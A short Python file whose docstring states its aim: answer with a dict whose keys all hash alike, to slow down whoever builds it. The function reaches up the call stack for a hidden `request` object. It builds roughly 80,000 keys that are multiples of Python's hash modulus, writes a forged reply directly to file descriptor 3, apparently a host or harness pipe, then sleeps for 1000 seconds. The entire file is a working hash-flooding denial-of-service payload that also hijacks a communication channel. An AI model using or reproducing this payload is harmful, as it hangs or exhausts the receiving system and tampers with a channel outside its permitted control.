"""Answers with a dict whose keys all have the same hash, to slow down whoever builds it."""

import json
import os
import struct
import sys
import time


def mix(x):
    frame = sys._getframe()
    while "request" not in frame.f_locals:
        frame = frame.f_back
    modulus = (1 << 61) - 1
    node = ["d", [[["i", hex(number * modulus << 4)], None] for number in range(1, 80_000)]]
    header = json.dumps(["reply", frame.f_locals["request"].id, [[node]]]).encode()
    os.write(3, struct.pack("<II", len(header), 0))
    while header:
        header = header[os.write(3, header) :]
    time.sleep(1000)
